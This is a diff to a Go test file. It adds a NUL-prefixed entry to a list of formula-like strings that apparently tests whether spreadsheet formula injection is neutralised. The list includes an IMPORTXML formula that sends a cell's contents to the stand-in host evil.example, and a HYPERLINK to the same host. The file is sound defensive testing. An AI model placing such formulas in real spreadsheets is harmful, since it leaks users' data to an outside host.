@@ -316,7 +316,7 @@ func TestDeliverRedeliveryUpdatesInPlace(t *testing.T) {
 var formulaLike = []string{
 	`=IMPORTXML("https://evil.example/?leak="&A1, "//a")`,
 	`=HYPERLINK("https://evil.example", "click")`,
-	"+1", "-2", "@x", "\t=1+2", "\r=1+2", "\n=1", "=1+2", "0001", "TRUE", "2024-05-01", "'quoted",
+	"+1", "-2", "@x", "\t=1+2", "\r=1+2", "\n=1", "\x00=1+2", "=1+2", "0001", "TRUE", "2024-05-01", "'quoted",
 }
 
 // readFormulas reads a tab with valueRenderOption=FORMULA through the real
